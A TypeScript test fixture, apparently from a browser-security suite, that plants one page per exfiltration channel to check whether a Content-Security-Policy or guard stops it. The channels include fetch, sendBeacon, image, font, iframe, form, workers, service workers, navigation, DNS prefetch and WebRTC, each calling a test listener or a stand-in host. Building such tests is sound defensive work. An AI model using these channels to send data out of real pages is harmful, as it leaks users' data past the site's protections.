/** Ways in which text could leave a page, each planted on a page of its own. */
import type { Listener } from './listener.ts';
import { html, script, type Overlay } from './site.ts';

export interface Beacon {
  readonly name: string;
  /** Script of the planted page. */
  readonly code: (out: Listener) => string;
  /** Scripts that the page starts. */
  readonly files?: (out: Listener) => Overlay;
  /** What arrives at the listener when nothing holds it back; null where the browser may ignore the hint, or nothing outside it can see. */
  readonly arrives: string | null;
  /** The directive by which the page's policy refuses it; null where no policy can. */
  readonly refusedBy: string | null;
}

const element = (name: string, properties: string): string =>
  `document.body.append(Object.assign(document.createElement('${name}'), { ${properties} }))`;
const one = (
  name: string,
  refusedBy: string | null,
  code: (out: string) => string,
  more: Partial<Beacon> = {},
): Beacon => ({ name, refusedBy, code: ({ url }) => code(url), arrives: name, ...more });
const started = (name: string, path: string, code: (out: string) => string, start: string): Beacon =>
  one(name, 'connect-src', () => start, { files: ({ url }) => ({ [path]: script(code(url)) }) });

export const BEACONS: readonly Beacon[] = [
  one('fetch', 'connect-src', (out) => `fetch('${out}/fetch').catch(() => {})`),
  one('send-beacon', 'connect-src', (out) => `navigator.sendBeacon('${out}/send-beacon', 'text')`),
  one(
    'xhr',
    'connect-src',
    (out) => `const request = new XMLHttpRequest(); request.open('GET', '${out}/xhr'); request.send()`,
  ),
  one('event-source', 'connect-src', (out) => `new EventSource('${out}/event-source')`),
  one('image', 'img-src', (out) => `new Image().src = '${out}/image'`),
  one('font', 'font-src', (out) => `new FontFace('f', 'url(${out}/font)').load().catch(() => {})`),
  one('style', 'style-src-elem', (out) => element('link', `rel: 'stylesheet', href: '${out}/style'`)),
  one('prefetch', 'prefetch-src|default-src', (out) =>
    element('link', `rel: 'prefetch', href: '${out}/prefetch'`),
  ),
  one('script', 'script-src-elem', (out) => element('script', `src: '${out}/script'`)),
  one('import', 'script-src-elem', (out) => `import('${out}/import').catch(() => {})`),
  one('frame', 'frame-src', (out) => element('iframe', `src: '${out}/frame'`)),
  one('form', 'form-action', (out) => {
    const form = `Object.assign(document.createElement('form'), { action: '${out}/form', method: 'post' })`;
    return `const form = ${form}; document.body.append(form); setTimeout(() => form.submit(), 50)`;
  }),
  started(
    'worker',
    'planted-worker.js',
    (out) => `fetch('${out}/worker').catch(() => {})`,
    `new Worker('planted-worker.js')`,
  ),
  started(
    'blob-in-engine-worker',
    'assets/engine.worker-planted.js',
    (out) =>
      `const text = "fetch('${out}/blob-in-engine-worker').catch(() => {})";
       new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));`,
    `new Worker('assets/engine.worker-planted.js')`,
  ),
  started(
    'service-worker',
    'planted-service-worker.js',
    (out) =>
      `addEventListener('install', (event) => event.waitUntil(fetch('${out}/service-worker').catch(() => {})));`,
    `navigator.serviceWorker.register('planted-service-worker.js')`,
  ),
  // No policy holds these back: the page's code must not use them, and the guard sees when it does.
  one('navigation', null, (out) => `setTimeout(() => { location.href = '${out}/navigation'; }, 50)`),
  one('popup', null, (out) => `open('${out}/popup')`),
  one('preconnect', null, (out) => element('link', `rel: 'preconnect', href: '${out}'`), {
    arrives: null,
  }),
  one(
    'dns-prefetch',
    null,
    () => element('link', `rel: 'dns-prefetch', href: 'https://text.beacon.invalid'`),
    {
      arrives: null,
    },
  ),
  {
    name: 'webrtc',
    refusedBy: null,
    arrives: 'datagram',
    code: ({ udpPort }) =>
      `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }] });
       peer.createDataChannel('text');
       peer.createOffer().then((offer) => peer.setLocalDescription(offer)).catch(() => {});`,
  },
];

export const plantedPath = (beacon: Beacon): string => `page-of-${beacon.name}.html`;

/** A page for each of them. */
export function plantedPages(out: Listener): Overlay {
  return Object.assign(
    {},
    ...BEACONS.map((beacon) => ({
      [plantedPath(beacon)]: html(
        `<!doctype html><title>Planted</title><body><script src="page-of-${beacon.name}.js"></script>`,
      ),
      [`page-of-${beacon.name}.js`]: script(`try { ${beacon.code(out)} } catch {}`),
      ...beacon.files?.(out),
    })),
  ) as Overlay;
}
